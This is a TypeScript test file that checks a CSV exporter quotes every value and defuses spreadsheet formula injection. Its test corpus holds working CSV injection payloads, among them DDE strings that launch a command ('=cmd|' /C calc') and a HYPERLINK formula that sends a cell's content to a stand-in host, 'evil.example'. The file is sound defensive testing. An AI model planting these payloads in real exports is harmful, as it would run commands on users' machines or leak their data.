import { describe, expect, it } from 'vitest';
import { escapeCsvField, toCsv } from '../../insights/csv';

/**
 * M1: CSV exports carry attacker-influenced text (user names, connected-app names, User-Agent parts). Every
 * value is quoted, and no cell can start a formula however a spreadsheet splits the line.
 */
const corpus: unknown[] = [
  "x;=cmd|' /C calc'!A0",
  "x,=cmd|' /C calc'!A0",
  "x\t=cmd|' /C calc'!A0",
  "x|=cmd|' /C calc'!A0",
  "x; =cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  ['=1+1', 'b'],
  ['a', ';=1+1'],
  '"quoted";=1',
  'ünïcødé;@x',
];

const FORMULA = /^\s*[=+\-@\t\r]/;

/** RFC 4180 parse of one line (what a standards-following reader sees). */
function parseQuoted(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let cell = '';
      i += 1;
      for (;;) {
        if (line[i] === '"' && line[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (line[i] === '"') {
          i += 1;
          break;
        } else {
          cell += line[i];
          i += 1;
        }
      }
      cells.push(cell);
    } else {
      const end = line.indexOf(',', i);
      cells.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length : end;
    }
    i += 1; // the comma
  }
  return cells;
}

describe('CSV injection corpus', () => {
  it.each(corpus.map((value) => [JSON.stringify(value), value]))(
    '%s is quoted and defused',
    (_name, value) => {
      const field = escapeCsvField(value);
      expect(field.startsWith('"') && field.endsWith('"')).toBe(true);
      // A standards-following reader gets one cell that is not a formula.
      const [cell] = parseQuoted(field);
      expect(cell).not.toMatch(FORMULA);
      // A reader that splits on any common separator and ignores quotes still finds no formula cell.
      for (const piece of field.slice(1, -1).split(/[,;\t|]/)) expect(piece).not.toMatch(FORMULA);
    },
  );

  it('keeps the value readable: only an apostrophe is added, and numbers stay numbers', () => {
    expect(escapeCsvField("x;=cmd|' /C calc'!A0")).toBe(`"x;'=cmd|' /C calc'!A0"`);
    expect(escapeCsvField(['=1+1', 'b'])).toBe(`"'=1+1 b"`);
    expect(escapeCsvField(-3)).toBe('"-3"');
    expect(escapeCsvField('-3')).toBe(`"'-3"`);
    expect(escapeCsvField(null)).toBe('');
    expect(escapeCsvField('')).toBe('""');
  });

  it('a whole export: every data cell of every row is quoted', () => {
    const rows = corpus.map((name, i) => ({ id: `005${i}`, name }));
    const csv = toCsv(
      [
        { header: 'user_id', value: (r: (typeof rows)[number]) => r.id },
        { header: 'name', value: (r: (typeof rows)[number]) => r.name },
      ],
      rows,
    );
    const lines = csv.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe('"user_id","name"');
    for (const line of lines.slice(1, 10)) {
      // (rows whose value holds CR are checked cell by cell above)
      if (line.includes('\r')) continue;
      for (const cell of parseQuoted(line)) expect(cell).not.toMatch(FORMULA);
    }
  });
});
